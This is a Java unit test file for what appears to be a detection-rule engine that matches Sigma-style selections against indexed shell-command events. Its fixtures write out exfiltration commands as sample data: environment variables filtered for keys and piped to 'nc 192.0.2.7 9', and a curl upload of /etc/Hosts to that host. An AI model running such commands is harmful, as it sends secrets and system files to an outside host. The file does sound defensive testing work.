package dev.offscript.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.model.Act;
import dev.offscript.model.Ecs;
import dev.offscript.model.Event;
import dev.offscript.model.EventKind;
import dev.offscript.model.EvidenceRef;
import dev.offscript.model.SimpleCommand;
import dev.offscript.model.State;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What an index must hold for a rule to match is never more than what is there. */
class CluesTest {

  private static final Event EVENT =
      Event.at(new EvidenceRef(0, 0, 10, 1, ""), 0)
          .kind(EventKind.EXEC)
          .session("s")
          .put(Ecs.USER_NAME, "Dev")
          .put(Ecs.SOURCE_PORT, 4022)
          .put(Ecs.PROCESS_WORKING_DIRECTORY, "/srv")
          .build();

  private static SimpleCommand command(String... argv) {
    return new SimpleCommand(
            List.of(argv),
            List.of("KEY=value"),
            List.of("> out.txt"),
            "typed in",
            true,
            0,
            1,
            List.of("nohup", "base64"),
            State.EXECUTED,
            List.<Act>of())
        .withPipe("env | grep -i key", "nc 192.0.2.7 9");
  }

  /** Terms that an index has of {@link #EVENT} with a command. */
  private static boolean indexed(Clues clues, Clues.Clue clue, SimpleCommand command) {
    if (clue instanceof Clues.All all) {
      return all.members().stream().allMatch(one -> indexed(clues, one, command));
    }
    if (clue instanceof Clues.Some some) {
      return some.members().stream().anyMatch(one -> indexed(clues, one, command));
    }
    if (clue instanceof Clues.Passes passes) {
      Set<Integer> passed = new java.util.HashSet<>();
      for (String field : passes.fields()) {
        terms(field, command)
            .forEach(term -> clues.tests().tester().test(field, term, passed::add));
      }
      return passed.contains(passes.test());
    }
    return true;
  }

  private static List<String> terms(String field, SimpleCommand command) {
    List<String> terms = new ArrayList<>();
    if (field.equals("process.args")) {
      terms.addAll(command.argv());
      terms.add(command.name());
    } else if (field.equals("process.name")) {
      terms.add(command.name());
    } else if (field.equals("offscript.kind")) {
      terms.add(EVENT.kind().wire());
    } else if (field.equals("offscript.actor")) {
      terms.add(EVENT.actor().wire());
    } else if (field.equals("offscript.session")) {
      terms.add(EVENT.session());
    } else {
      EVENT
          .fields()
          .forEach(
              (name, value) -> {
                if (name.name().equals(field)) {
                  terms.add(value.toString());
                }
              });
    }
    return terms.stream().map(term -> term.toLowerCase(java.util.Locale.ROOT)).toList();
  }

  private static Clues clues(String selection) {
    RuleSet rules =
        RuleSet.load(
            List.of(
                RuleSource.user(
                    "r.yml",
                    """
                    title: r
                    logsource: {category: process_creation, product: linux}
                    detection:
                      selection:
                        %s
                      condition: selection
                    """
                        .formatted(selection))));
    assertThat(rules.refused()).isEmpty();
    return Clues.of(rules.only(Set.of("r")), EnumSet.of(EventKind.EXEC));
  }

  @Test
  void everyValueThatACommandShowsIsFoundByItsClue() {
    SimpleCommand command = command("Curl", "-T", "/etc/Hosts", "http://192.0.2.7/a b", "10.0");
    List<String> shown = new ArrayList<>();
    RuleEvents.of(EVENT, command)
        .forEachScalar((name, value) -> shown.add("'" + name + "': '" + value + "'"));
    assertThat(shown).hasSizeGreaterThan(20);
    for (String selection : shown) {
      Clues clues = clues(selection);
      assertThat(clues.clued())
          .as(selection)
          .anyMatch(clued -> clued.text() && indexed(clues, clued.clue(), command));
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " | ",
      value = {
        "Image|endswith: '/curl'                 | curl      | true",
        "Image|endswith: '/curl'                 | /opt/curl | true",
        "Image|endswith: '/curl'                 | wget      | false",
        "Image|contains: 'bin/cu'                | curl      | true",
        "Image|contains: '/usr/'                 | curl      | true",
        "Image|contains: '/opt/'                 | curl      | false",
        "Image|startswith: '/opt/'               | /opt/x    | true",
        "CommandLine|contains: 'rl -T'           | curl      | true",
        "CommandLine|contains: ' --upload-file ' | curl      | false",
        "CommandLine|re: 'curl.*-T'              | curl      | true",
        "User|cased: Dev                         | curl      | true",
        "User: root                              | curl      | false",
        "source.port|gte: 4000                   | curl      | true",
        "source.port: 4022.0                     | curl      | true",
        "source.port: 23                         | curl      | false",
        "offscript.feeds|contains: nc            | curl      | true"
      })
  void aClueIsAsNarrowAsTheIndexAllows(String selection, String program, boolean expected) {
    SimpleCommand command = command(program, "-T", "/etc/Hosts");
    Clues clues = clues(selection.strip());
    assertThat(clues.clued())
        .filteredOn(Clues.Clued::text)
        .allMatch(clued -> indexed(clues, clued.clue(), command) == expected);
  }
}
